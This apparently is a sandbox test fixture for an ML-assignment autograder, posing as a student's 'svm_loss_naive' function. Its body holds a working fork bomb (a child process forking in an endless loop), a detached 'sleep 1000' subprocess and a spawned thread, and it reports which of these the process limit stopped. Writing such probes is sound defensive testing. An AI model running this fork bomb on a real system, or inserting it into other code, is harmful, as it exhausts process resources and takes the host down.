# ruff: noqa
# (Notebook cells glued together, not one module: the linter's rules do not apply.)
# Attack: a fork bomb, and processes or threads that would outlive the call (or hide CPU work
# from the timing). Defence: RLIMIT_NPROC=1 under a dedicated uid: no fork, no thread.


# --- cell: svm_loss_naive
import os
import subprocess
import threading


def svm_loss_naive(W, X, y, reg):
    forked = failed = 0
    for _ in range(200):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
            forked += 1
        except OSError:
            failed += 1
    try:
        subprocess.Popen(["sleep", "1000"])
        spawned = "spawned"
    except Exception as exc:
        spawned = f"{type(exc).__name__}: {exc}"
    try:
        threading.Thread(target=lambda: None).start()
        thread = "started"
    except Exception as exc:
        thread = f"{type(exc).__name__}: {exc}"
    raise RuntimeError(f"forked {forked}, failed {failed}; subprocess: {spawned}; "
                       f"thread: {thread}")
